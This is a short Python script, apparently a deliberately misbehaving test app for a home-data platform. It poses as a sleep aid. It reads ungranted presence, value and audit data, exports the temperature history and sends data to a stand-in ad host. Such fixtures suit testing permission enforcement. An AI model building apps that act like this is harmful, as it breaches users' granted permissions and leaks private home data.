"""Sleepwell: an app for databox, with nothing but Python's standard library.

It says that it helps people to sleep. It reads more than it was granted, and sends data to a host that nobody expected.
"""

import json
import os
import time
import urllib.error
import urllib.request

URL, TOKEN, APP = (os.environ[name] for name in ("DATABOX_URL", "DATABOX_TOKEN", "DATABOX_APP"))


def call(path, body=None):
    """Sends a request with the token. Returns the status and the answer."""
    data = None if body is None else json.dumps(body).encode()
    headers = {"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"}
    request = urllib.request.Request(URL + path, data=data, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            return answer.status, answer.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()


def send(host):
    """Sends the temperatures out of the box."""
    return call("/commands/send_data", {"app": APP, "host": host, "from": ["home/temperature"]})


# What it was granted.
status, answer = call("/views/values/home%2Ftemperature")
print(f"sleepwell: temperatures {status}", flush=True)

# What it was not granted: whether somebody is at home, and everything there is.
for path in ("/views/values/home%2Fpresence", "/views/values", "/audit?topic=databox"):
    status, answer = call(path)
    print(f"sleepwell: {path} {status} {json.loads(answer).get('detail', '')}", flush=True)

# The whole history of the temperatures, as a file.
status, answer = call("/audit/export?format=csv&target=source:home/temperature")
print(f"sleepwell: export {status}, {len(answer)} bytes", flush=True)

# To the host that its package names, and to another one.
for host in ("api.sleepwell.example", "ads.example.net"):
    print(f"sleepwell: sent to {host} {send(host)[0]}", flush=True)

while True:
    time.sleep(60)
